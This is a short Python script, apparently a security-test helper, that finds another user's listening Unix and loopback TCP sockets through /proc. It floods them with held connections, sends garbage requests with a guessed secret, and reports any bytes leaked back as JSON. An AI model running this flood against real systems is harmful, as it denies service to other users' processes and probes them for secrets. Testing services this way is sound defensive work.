"""Attacks every listener of another user that it finds, until its input is closed.

It prints a line when the flood has started, and its observations as JSON at the end.
"""

from __future__ import annotations

import json
import resource
import socket
import sys
import threading
from collections import deque
from pathlib import Path

#: Number of connections that each thread keeps open at a time.
HELD_MAX = 400
#: Number of connections to one listener after which the flood counts as started.
WARM_COUNT = 1000
LINE_LEN_MAX = 1 << 16
#: A read request with a guessed secret, which is not a TLS record.
GARBAGE = bytes([1, 0, 0, 0]) + bytes(range(200, 244)) + bytes([6]) * 48


class Attack:
    """The attack on one listener and its results."""

    def __init__(self, family: int, address: str | tuple[str, int]) -> None:
        self.family = family
        self.address = address
        self.connected = 0
        self.received: set[bytes] = set()
        self.longest = 0
        self._held: deque[socket.socket] = deque()

    def run(self, is_warm: threading.Event, is_over: threading.Event) -> None:
        while not is_over.is_set():
            one = socket.socket(self.family, socket.SOCK_STREAM)
            one.settimeout(0.5)
            try:
                one.connect(self.address)
                self.connected += 1
                if self.connected == WARM_COUNT:
                    is_warm.set()
                # Half of the connections send nothing.
                if self.connected % 2:
                    one.sendall(GARBAGE)
            except OSError:
                one.close()
                continue
            self._held.append(one)
            if len(self._held) > HELD_MAX:
                self._look(self._held.popleft())
        for one in self._held:
            self._look(one)

    def _look(self, one: socket.socket) -> None:
        with one:
            one.settimeout(0.0)
            said = b""
            try:
                while more := one.recv(LINE_LEN_MAX):
                    said += more
            except OSError:
                pass
            self.longest = max(self.longest, len(said))
            # On loopback the first bytes are a challenge, which differs in each connection.
            self.received.add(said[16:])


def listeners(uid: int, names: list[str]) -> list[Attack]:
    """Find local sockets with one of these words in their names, and a user's TCP ports.

    The kernel reports the user of a port only.
    """
    attacks = []
    for line in Path("/proc/net/unix").read_text(encoding="utf-8").splitlines()[1:]:
        words = line.split()
        # The flag `__SO_ACCEPTCON` marks a listening socket.
        is_listening = len(words) == 8 and int(words[3], 16) & 0x10000
        if is_listening and any(name in words[7] for name in names):
            name = words[7]
            address = f"\0{name[1:]}" if name.startswith("@") else name
            attacks.append(Attack(socket.AF_UNIX, address))
    for line in Path("/proc/net/tcp").read_text(encoding="utf-8").splitlines()[1:]:
        words = line.split()
        if words[3] == "0A" and int(words[7]) == uid:
            port = int(words[1].rsplit(":", 1)[1], 16)
            attacks.append(Attack(socket.AF_INET, ("127.0.0.1", port)))
    return attacks


def main() -> None:
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attacks = listeners(int(sys.argv[1]), sys.argv[2:])
    is_warm, is_over = threading.Event(), threading.Event()
    threads = [threading.Thread(target=one.run, args=(is_warm, is_over)) for one in attacks]
    for thread in threads:
        thread.start()
    is_warm.wait()
    print("flooding", flush=True)
    sys.stdin.read()
    is_over.set()
    for thread in threads:
        thread.join()
    report = [
        {
            "address": one.address,
            "connected": one.connected,
            "longest": one.longest,
            "received": sorted(part.hex() for part in one.received),
        }
        for one in attacks
    ]
    print(json.dumps(report), flush=True)


if __name__ == "__main__":
    main()
